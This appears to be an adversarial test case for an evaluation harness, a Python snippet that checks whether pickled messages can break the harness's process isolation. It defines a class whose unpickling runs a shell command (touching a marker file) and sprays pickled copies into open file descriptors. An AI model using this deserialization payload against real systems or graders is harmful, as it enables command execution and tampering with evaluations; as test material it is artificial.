# promise: Forged, malformed, huge or pickled messages end in a failed question at worst
# layers: separate processes
# A pickle that would run a command where it is loaded.
# honest score: 0
# %%
import os, pickle, struct
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/emgrade-attack-pickle",))
answer = values = Bomb()
def double(x):
    data = pickle.dumps(Bomb())
    for fd in range(3, 64):
        try: os.write(fd, struct.pack("<II", len(data), 0) + data)
        except OSError: pass
    return Bomb()
